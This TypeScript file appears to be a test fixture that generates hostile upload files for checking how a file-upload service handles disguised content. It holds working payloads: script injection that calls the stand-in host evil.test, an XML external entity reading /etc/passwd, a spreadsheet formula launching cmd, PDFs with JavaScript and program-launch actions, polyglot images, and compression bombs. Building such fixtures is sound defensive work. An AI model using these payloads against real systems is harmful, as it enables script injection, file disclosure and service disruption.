import { gzipSync } from "node:zlib";
import { HOSTILE_NAMES } from "./hostile-names.ts";
import { makeCompoundFile, makeZip } from "./make-office-file.ts";
import { makePdf } from "./make-pdf.ts";
import { makePictureBomb, makePng } from "./make-png.ts";

type HostileFile = { fileName: string; content: Buffer; what: string; isTaken: boolean };

/** Whatever runs one of these says so: by a dialog, by a request to another host. */
const SCRIPT = "<script>alert('ran');fetch('https://evil.test/ran')</script>";
const IMG = "<img src=x onerror=\"alert('ran')\">";
const EXTENSIONS = ["png", "jpg", "webp", "pdf", "docx", "xls", "csv", "txt"] as const;

const png = makePng(8, 8, (x, y) => [x * 30, y * 30, 90]);
const pdfWith = (action: string) =>
  Buffer.from(makePdf().toString("latin1").replace("/Type /Catalog", `/Type /Catalog /OpenAction ${action}`), "latin1");

type Payload = { what: string; content: Buffer | string; takenAs?: readonly string[] };

/** What is sent under every extension. `takenAs`: where its bytes are what the extension says, so that only serving it safely helps. */
const PAYLOADS: Payload[] = [
  { what: "a page", content: `<!doctype html><html><body>${SCRIPT}${IMG}</body></html>` },
  { what: "a page after blanks", content: ` \n\t<html>${SCRIPT}</html>` },
  { what: "a page after a byte order mark", content: `\ufeff<html>${SCRIPT}</html>` },
  { what: "a page after a comment", content: `<!-- x --><html>${SCRIPT}</html>` },
  { what: "a page after words", content: `Hello ${SCRIPT}${IMG}`, takenAs: ["csv", "txt"] },
  { what: "a page in UTF-16", content: Buffer.from(`\ufeff<html>${SCRIPT}</html>`, "utf16le") },
  { what: "a page in UTF-7", content: "+ADw-script+AD4-alert('ran')+ADw-/script+AD4-", takenAs: ["csv", "txt"] },
  { what: "a drawing", content: `<svg xmlns="http://www.w3.org/2000/svg" onload="alert('ran')">${SCRIPT}</svg>` },
  { what: "a drawing as XML", content: `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>` },
  {
    what: "an outside entity",
    content: `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>`,
  },
  { what: "a script", content: "alert('ran');fetch('https://evil.test/ran')", takenAs: ["csv", "txt"] },
  { what: "a GIF that is a script", content: "GIF89a=1;alert('ran')", takenAs: ["csv", "txt"] },
  {
    what: "a mail with a page",
    content: `MIME-Version: 1.0\nContent-Type: text/html\n\n${SCRIPT}`,
    takenAs: ["csv", "txt"],
  },
  { what: "formulas", content: "=cmd|' /C calc'!A0,@SUM(1),+1,-1\n", takenAs: ["csv", "txt"] },
  {
    what: "a Windows program",
    content: Buffer.concat([Buffer.from("MZ\x90\0\x03\0", "latin1"), Buffer.alloc(200, 1)]),
  },
  {
    what: "a Linux program",
    content: Buffer.concat([Buffer.from("\x7fELF\x02\x01\x01\0", "latin1"), Buffer.alloc(200, 2)]),
  },
  { what: "a Java class", content: Buffer.from("cafebabe0000003400", "hex") },
  { what: "an archive", content: makeZip("evil.exe") },
  { what: "a bomb of nothing, packed", content: gzipSync(Buffer.alloc(50 * 2 ** 20)) },
  { what: "a picture with a page behind", content: Buffer.concat([png, Buffer.from(SCRIPT)]), takenAs: ["png"] },
  { what: "a page with a picture behind", content: Buffer.concat([Buffer.from(SCRIPT), png]) },
  { what: "a picture that unfolds", content: makePictureBomb(20_000) },
  {
    what: "a PDF that runs a script",
    content: pdfWith("<< /S /JavaScript /JS (app.alert\\('ran'\\)) >>"),
    takenAs: ["pdf"],
  },
  { what: "a PDF that starts a program", content: pdfWith("<< /S /Launch /F (cmd.exe) >>"), takenAs: ["pdf"] },
  {
    what: "a PDF that asks another host",
    content: pdfWith("<< /S /URI /URI (https://evil.test/ran) >>"),
    takenAs: ["pdf"],
  },
  { what: "a PDF with a page in front", content: Buffer.concat([Buffer.from(SCRIPT), makePdf()]) },
  { what: "an old sheet", content: makeCompoundFile("Workbook"), takenAs: ["xls"] },
];

/** At least 200 files that somebody would send who wants something to run, to burst, or to lie elsewhere. */
export function makeHostileFiles(): HostileFile[] {
  const disguised = PAYLOADS.flatMap(({ what, content, takenAs = [] }) =>
    EXTENSIONS.map((extension) => ({
      fileName: `sent.${extension}`,
      content: Buffer.from(content),
      what: `${what} named .${extension}`,
      isTaken: takenAs.includes(extension),
    })),
  );
  const named = HOSTILE_NAMES.map(([fileName, isTaken]) => ({
    fileName,
    content: png,
    what: `a picture named ${JSON.stringify(fileName).slice(0, 60)}`,
    isTaken,
  }));
  return [...disguised, ...named];
}
